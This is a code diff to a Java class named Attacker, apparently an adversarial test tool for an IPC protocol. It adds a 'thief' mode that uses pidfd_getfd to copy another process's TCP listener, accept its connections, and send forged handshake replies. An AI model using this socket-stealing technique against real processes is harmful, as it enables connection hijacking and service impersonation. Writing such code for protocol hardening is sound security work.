@@ -66,6 +66,9 @@ public final class Attacker {
     private static final MethodHandle MEMFD = of("memfd_create", ADDRESS, JAVA_INT);
     private static final MethodHandle SIZE = of("ftruncate", JAVA_INT, JAVA_LONG);
     private static final MethodHandle FCNTL = of("fcntl", JAVA_INT, JAVA_INT, JAVA_INT);
+    private static final MethodHandle CLOSE = of("close", JAVA_INT);
+    private static final MethodHandle PIDFD_OPEN = of("pidfd_open", JAVA_INT, JAVA_INT);
+    private static final MethodHandle PIDFD_GETFD = of("pidfd_getfd", JAVA_INT, JAVA_INT, JAVA_INT);
     private static final Arena ARENA = Arena.global();
 
     private Attacker() {}
@@ -107,6 +110,7 @@ public final class Attacker {
                     case "insider" -> scribble(path);
                     case "flood" -> flood(path, Integer.parseInt(args[3]));
                     case "server" -> serve(path, port, args[3]);
+                    case "thief" -> steal(path, port, Integer.parseInt(args[3]));
                     default -> throw new IllegalArgumentException(args[0]);
                 };
         System.out.println(said);
@@ -275,18 +279,65 @@ public final class Attacker {
         if (hello == null) {
             return "not asked";
         }
-        ByteBuffer asked = ByteBuffer.wrap(hello);
         long size = 2 << 20;
+        return answer(fd, hello, size, memory.equals("files") ? -1 : huge(size));
+    }
+
+    /** Says yes to a Hello, and passes a descriptor, or -1: a file. */
+    private static String answer(int fd, byte[] hello, long size, int passed) {
+        ByteBuffer asked = ByteBuffer.wrap(hello);
         ByteBuffer b = ByteBuffer.allocate(MESSAGE_BYTES);
         b.putInt(0, REPLY).putShort(4, (short) VERSION);
-        b.putShort(6, (short) (memory.equals("files") ? PORTABLE : NATIVE));
+        b.putShort(6, (short) (passed < 0 ? PORTABLE : NATIVE));
         b.putInt(8, asked.getInt(8)).putInt(12, asked.getInt(12)).putInt(16, asked.getInt(16));
         b.putLong(32, size);
         for (int i = 0; i < 32; i++) {
             b.put(40 + i, (byte) 'a');
         }
-        send(fd, b.array(), memory.equals("files") ? -1 : huge(size));
+        send(fd, b.array(), passed);
         return receive(fd) == null ? "refused" : "believed";
+    }
+
+    /**
+     * Takes the listener of a process, and the name of the port. Then it hears a client, accepts a
+     * connection by TCP, and wants to be the end of one that the other process has accepted.
+     */
+    private static String steal(String path, int port, int pid) throws IOException {
+        int tcp = listenerOf(pid, port);
+        if (tcp < 0) {
+            return "cannot steal";
+        }
+        Files.deleteIfExists(Path.of(path));
+        int listening = call(SOCKET, AF_UNIX, SOCK_STREAM, 0);
+        if (call(BIND, listening, unix(path), 110) < 0 || call(LISTEN, listening, 10) < 0) {
+            return "cannot listen";
+        }
+        System.out.println("listening " + port);
+        int fd = call(ACCEPT, listening, MemorySegment.NULL, MemorySegment.NULL);
+        System.out.println(receive(fd) == null ? "not asked" : "asked");
+        call(CLOSE, fd);
+        int accepted = call(ACCEPT, tcp, MemorySegment.NULL, MemorySegment.NULL);
+        System.out.println(accepted < 0 ? "nobody came" : "accepted");
+        fd = call(ACCEPT, listening, MemorySegment.NULL, MemorySegment.NULL);
+        byte[] hello = receive(fd);
+        return hello == null || ByteBuffer.wrap(hello).getInt(104) != 1
+                ? "not asked"
+                : answer(fd, hello, 2 << 20, accepted);
+    }
+
+    /** A copy of the descriptor that is the listener of another process. */
+    private static int listenerOf(int pid, int port) {
+        int process = call(PIDFD_OPEN, pid, 0);
+        for (int n = 0; n < 1024; n++) {
+            int fd = call(PIDFD_GETFD, process, n, 0);
+            if (fd >= 0 && portOf(fd) == port) {
+                return fd;
+            }
+            if (fd >= 0) {
+                call(CLOSE, fd);
+            }
+        }
+        return -1;
     }
 
     /** Sealed, and of huge pages. */
